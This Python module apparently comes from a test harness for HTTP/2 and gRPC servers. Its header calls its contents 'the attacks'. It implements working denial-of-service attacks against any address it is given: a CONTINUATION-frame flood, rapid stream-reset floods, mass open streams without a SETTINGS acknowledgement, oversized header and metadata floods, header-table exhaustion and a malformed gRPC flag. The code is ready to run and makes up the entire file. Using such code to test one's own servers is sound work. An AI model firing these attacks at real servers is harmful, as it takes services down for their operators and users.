# SPDX-License-Identifier: Apache-2.0
#
# The attacks. Each takes an address, a count, and what a Connection takes beside;
# it tells what became of it, or raises Closed when the peer has ended the
# connection.
import collections

from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PUT, RST_STREAM,
                   Connection, call_headers, frame, header, indexed_header, message)

_CANCEL = (8).to_bytes(4, "big")
_AT_ONCE = 1000


def _say(answer):
    if answer.reset is not None:
        return f"its stream was reset with {answer.reset}"
    return f"status {answer.status}, HTTP {answer.headers.get(':status', '?')}"


def _say_all(answers):
    told = collections.Counter(_say(answer) for answer in answers)
    return ", ".join(f"{times} x {what}" for what, times in sorted(told.items()))


def _write_streams(connection, count, frames_of):
    """Writes what frames_of(stream) returns for each of `count` new streams."""
    for first in range(0, count, _AT_ONCE):
        many = min(_AT_ONCE, count - first)
        begin = connection.next_stream
        connection.next_stream += 2 * many
        connection.write(b"".join(
            frames_of(stream) for stream in range(begin, begin + 2 * many, 2)))


def big_header(address, count=15, **how):
    """one header, of `count` MiB"""
    with Connection(address, **how) as connection:
        stream = connection.open_stream(more=[("x-large", b"v" * (count << 20))])
        connection.send(DATA, END_STREAM, stream, message(b"x"))
        return _say(connection.answer(stream))


def continuation_flood(address, count=100_000, **how):
    """a header block of `count` CONTINUATION frames that does not end"""
    with Connection(address, **how) as connection:
        connection.send(HEADERS, 0, 1, call_headers(PUT))
        part = b"".join(header(f"x-{i}", b"v" * 100) for i in range(100))
        for _ in range(count):
            connection.send(CONTINUATION, 0, 1, part)
        return f"all {count * len(part) >> 20} MiB were taken"


def resets(address, count=200_000, **how):
    """`count` calls that are reset as soon as they are begun, then one that is not"""
    with Connection(address, **how) as connection:
        connection.await_settings()
        block = call_headers(PUT)
        _write_streams(
            connection, count, lambda stream: frame(HEADERS, END_HEADERS, stream, block) + frame(
                RST_STREAM, 0, stream, _CANCEL))
        return _say(connection.call())


def open_calls(address, count=100_000, **how):
    """`count` calls that are begun and stay open, without an ACK of SETTINGS"""
    with Connection(address, ack_settings=False, **how) as connection:
        block = call_headers(PUT)
        _write_streams(connection, count,
                       lambda stream: frame(HEADERS, END_HEADERS, stream, block))
        stream = connection.next_stream - 2
        connection.send(DATA, END_STREAM, stream, message(b"x"))
        return _say(connection.answer(stream))


def metadata_without_ack(address, count=1024, **how):
    """`count` KiB of metadata, without an ACK of SETTINGS"""
    with Connection(address, ack_settings=False, **how) as connection:
        more = [(f"x-{i}", b"v" * 1000) for i in range(count)]
        return _say(connection.call(more=more))


def metadata_above_the_limit(address, count=1500, **how):
    """20 calls of one connection with 90 headers of `count` bytes each"""
    with Connection(address, **how) as connection:
        connection.await_settings()
        more = [(f"x-{i:02}", b"v" * count) for i in range(90)]
        return _say_all([connection.call(more=more) for _ in range(20)])


def header_table(address, count=15, **how):
    """20 calls of one connection, with `count` KB each for the header table"""
    with Connection(address, **how) as connection:
        answers = []
        for i in range(20):
            block = call_headers(PUT)
            block += b"".join(indexed_header(f"x-{i}-{k}", b"v" * 900) for k in range(count))
            stream = connection.send_headers(block)
            connection.send(DATA, END_STREAM, stream, message(b"x"))
            answers.append(connection.answer(stream))
        return _say_all(answers)


def bad_flag(address, count=2, **how):
    """a gRPC message whose flag byte is `count`"""
    with Connection(address, **how) as connection:
        return _say(connection.call(flag=count))


ALL = {
    function.__name__: function
    for function in (big_header, continuation_flood, resets, open_calls,
                     metadata_without_ack, metadata_above_the_limit, header_table, bad_flag)
}
